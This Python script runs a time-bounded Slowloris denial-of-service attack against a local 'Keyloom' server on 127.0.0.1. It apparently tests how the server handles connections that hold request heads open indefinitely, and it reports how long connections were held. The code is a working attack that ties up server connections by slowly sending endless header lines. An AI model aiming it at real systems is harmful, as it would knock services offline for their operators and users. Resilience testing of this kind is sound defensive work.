#!/usr/bin/env python3
"""Slowloris against a loopback Keyloom, bounded in time; reports how long connections were held.

Opens CONNECTIONS sockets that each send a request head that never ends (one more header line
every PAUSE seconds), reopening closed ones on the next round as the classic tool does. Stops by
itself after SECONDS. Loopback only.
Usage: slowloris.py PORT [CONNECTIONS=1000] [SECONDS=40] [PAUSE=3]
"""
import asyncio
import statistics
import sys
import time

HOST = "127.0.0.1"


class Stats:
    def __init__(self):
        self.opened = 0
        self.failed = 0
        self.held = []  # seconds from open to close by the server
        self.open_now = 0
        self.peak = 0
        self.answers = {}  # first status line bytes seen before the close


async def attacker(port, pause, deadline, stats):
    while time.monotonic() < deadline:
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(HOST, port), 5)
        except (OSError, asyncio.TimeoutError):
            stats.failed += 1
            await asyncio.sleep(pause)
            continue
        stats.opened += 1
        stats.open_now += 1
        stats.peak = max(stats.peak, stats.open_now)
        start = time.monotonic()
        try:
            writer.write(b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n")
            await writer.drain()
            n = 0
            while time.monotonic() < deadline:
                try:
                    data = await asyncio.wait_for(reader.read(256), pause)
                except asyncio.TimeoutError:
                    writer.write(b"X-a-%d: b\r\n" % n)
                    n += 1
                    await writer.drain()
                    continue
                if data:
                    line = data.split(b"\r\n", 1)[0].decode("latin-1")
                    stats.answers[line] = stats.answers.get(line, 0) + 1
                else:
                    stats.held.append(time.monotonic() - start)
                    break
        except OSError:
            stats.held.append(time.monotonic() - start)
        finally:
            stats.open_now -= 1
            writer.close()
        await asyncio.sleep(pause)  # reopen on the next round


async def main():
    port = int(sys.argv[1])
    connections = int(sys.argv[2]) if len(sys.argv) > 2 else 1000
    seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 40
    pause = float(sys.argv[4]) if len(sys.argv) > 4 else 3
    stats = Stats()
    deadline = time.monotonic() + seconds
    tasks = [asyncio.create_task(attacker(port, pause, deadline, stats)) for _ in range(connections)]
    await asyncio.wait(tasks, timeout=seconds + 10)
    held = sorted(stats.held)
    print(f"slowloris: {stats.opened} connections opened ({stats.failed} failed), peak {stats.peak} open")
    if held:
        print(
            f"slowloris: {len(held)} closed by the server; held median {statistics.median(held):.1f}s,"
            f" max {held[-1]:.1f}s"
        )
    else:
        print("slowloris: none closed by the server")
    print(f"slowloris: still open at the end: {stats.open_now}; answers before close: {stats.answers}")


asyncio.run(main())
